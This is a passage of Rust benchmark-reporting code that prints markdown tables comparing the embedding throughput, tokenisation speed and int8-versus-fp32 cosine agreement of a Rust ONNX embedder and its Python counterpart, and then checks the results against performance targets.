        "- Rust: palisade-embeddings, onnxruntime {} (the venv's libonnxruntime), {} intra-op threads, spinning {} (PALISADE_EMBED_SPIN), length-sorted runs of {sub_batch}",
        py0["onnxruntime"].as_str().unwrap_or("?"),
        base.threads,
        if base.spin {
            "on while a run goes on"
        } else {
            "off"
        }
    );
    println!(
        "- execution providers: Rust {}; Python {}",
        providers
            .iter()
            .map(|(v, p)| format!("{v} {p}"))
            .collect::<Vec<_>>()
            .join(", "),
        pythons
            .iter()
            .map(|(v, py)| format!(
                "{v} {}",
                py.result["execution_provider"].as_str().unwrap_or("?")
            ))
            .collect::<Vec<_>>()
            .join(", ")
    );
    println!(
        "- Python {}: onnxruntime {}, tokenizers {}, numpy {}; intra_op_num_threads {}, spinning {}, other session options default",
        py0["python"].as_str().unwrap_or("?"),
        py0["onnxruntime"].as_str().unwrap_or("?"),
        py0["tokenizers"].as_str().unwrap_or("?"),
        py0["numpy"].as_str().unwrap_or("?"),
        base.threads,
        if py0["spinning"].as_bool() == Some(false) { "off" } else { "on (default)" },
    );
    println!(
        "- tokens counted by both sides: Rust {tokens}, Python {py_tokens} ({})",
        if tokens == py_tokens {
            "equal"
        } else {
            "DIFFERENT"
        }
    );
    println!(
        "\nembeddings/s over all timed passes (slowest–fastest pass), tokenisation included:\n"
    );
    println!("| model | batch | texts | Rust (sorted runs of {sub_batch}) | Python, whole batch | Python, sorted runs of {sub_batch} | Rust ÷ Python whole | Rust ÷ Python sorted | other processes' CPU, cores (Rust / whole / sorted) |");
    println!("|---|---:|---:|---:|---:|---:|---:|---:|---:|");
    for ((variant, figures, _), (_, py)) in rust.iter().zip(&pythons) {
        for (batch, r) in BATCHES.iter().zip(figures) {
            let whole = python_figures(py, "whole", *batch);
            let sorted = python_figures(py, "sorted", *batch);
            let (sorted_cell, sorted_ratio, sorted_others) = if *batch > sub_batch {
                (
                    sorted.cell(),
                    format!("{:.2}×", r.per_s / sorted.per_s),
                    format!("{:.2}", sorted.others),
                )
            } else {
                (
                    "(one run: = whole)".to_owned(),
                    "—".to_owned(),
                    "—".to_owned(),
                )
            };
            println!(
                "| {variant} | {batch} | {} | {} | {} | {sorted_cell} | {:.2}× | {sorted_ratio} | {:.2} / {:.2} / {sorted_others} |",
                r.texts,
                r.cell(),
                whole.cell(),
                r.per_s / whole.per_s,
                r.others,
                whole.others
            );
        }
    }
    for (variant, f) in &one_run {
        println!(
            "| {variant} | 256 | {} | one run of 256: {} | | | | | {:.2} |",
            f.texts,
            f.cell(),
            f.others
        );
    }

    let busiest = rust
        .iter()
        .flat_map(|(_, f, _)| f.iter().map(|f| f.others))
        .chain(pythons.iter().flat_map(|(_, py)| {
            ["whole", "sorted"].into_iter().flat_map(move |mode| {
                py.result[mode]
                    .as_array()
                    .into_iter()
                    .flatten()
                    .map(|r| r["others_cores"].as_f64().unwrap_or(0.0))
            })
        }))
        .fold(0.0, f64::max);
    if busiest > 0.2 {
        println!(
            "\n**Warning**: other processes used up to {busiest:.2} cores during a configuration; \
             figures measured then are lower than this code's speed on an idle box."
        );
    }

    let py_tok = &py0["tokenize"];
    let r256 = |v: ModelVariant| {
        rust.iter()
            .find(|(x, _, _)| *x == v)
            .map(|(_, f, _)| f[2].per_s)
            .unwrap()
    };
    println!("\nTokenisation alone (batches of 256, same texts):\n");
    println!("| side | texts/s | µs per text | share of Rust int8 batch-256 time |");
    println!("|---|---:|---:|---:|");
    println!(
        "| Rust `Embedder::tokenize` (no padding) | {tok_per_s:.0} | {:.1} | {:.1}% |",
        1e6 / tok_per_s,
        100.0 * r256(ModelVariant::Int8) / tok_per_s
    );
    println!(
        "| Python `Tokenizer.encode_batch` (padded to the longest) | {:.0} | {:.1} | |",
        py_tok["per_s"].as_f64().unwrap_or(f64::NAN),
        py_tok["us_per_text"].as_f64().unwrap_or(f64::NAN)
    );

    let fp32 = &rust[0].2;
    let int8 = &rust[1].2;
    let (mean, min, worst) = agreement(int8, fp32);
    let (py_mean, py_min, _) = agreement(&pythons[1].1.vectors, &pythons[0].1.vectors);
    let (_, fp32_min, _) = agreement(fp32, &pythons[0].1.vectors);
    let (int8_mean, int8_min, _) = agreement(int8, &pythons[1].1.vectors);
    println!("\nCosine agreement over the {n} texts (batch 256: sorted runs of {sub_batch}):\n");
    println!(
        "- Rust int8 vs Rust fp32: mean **{mean:.4}**, min **{min:.4}** (for {:?})",
        texts[worst]
    );
    println!("- Python int8 vs Python fp32: mean {py_mean:.4}, min {py_min:.4}");
    println!("- Rust fp32 vs Python fp32: min {fp32_min:.6}; Rust int8 vs Python int8: mean {int8_mean:.6}, min {int8_min:.6}");

    let int8_256 = r256(ModelVariant::Int8);
    let py_whole = python_figures(&pythons[1].1, "whole", 256).per_s;
    let py_sorted = python_figures(&pythons[1].1, "sorted", 256).per_s;
    let met = |ok: bool| if ok { "met" } else { "NOT met" };
    println!(
        "\nTargets (set for 2 CPU cores{}):\n",
        if base.cuda {
            "; this run was on the GPU"
        } else {
            ""
        }
    );
    println!(
        "- ≥ 600 embeddings/s, int8, batch 256: **{}** ({int8_256:.0})",
        met(int8_256 >= 600.0)
    );
    println!(
        "- mean cosine int8 vs fp32 ≥ 0.99: **{}** ({mean:.4})",
        met(mean >= 0.99)
    );
    // Python times sorted runs only for batches above the sub-batch.
    let same_runs = if py_sorted > 0.0 {
        format!(
            "**{}** ({:.2}×)",
            met(int8_256 >= py_sorted),
            int8_256 / py_sorted
        )
    } else {
        format!("not timed (runs of {sub_batch} are the whole batch)")
    };
    println!(
        "- not slower than Python (int8, batch 256): whole batch **{}** ({:.2}×), same sorted runs {same_runs}",
        met(int8_256 >= py_whole),
        int8_256 / py_whole,
    );
}
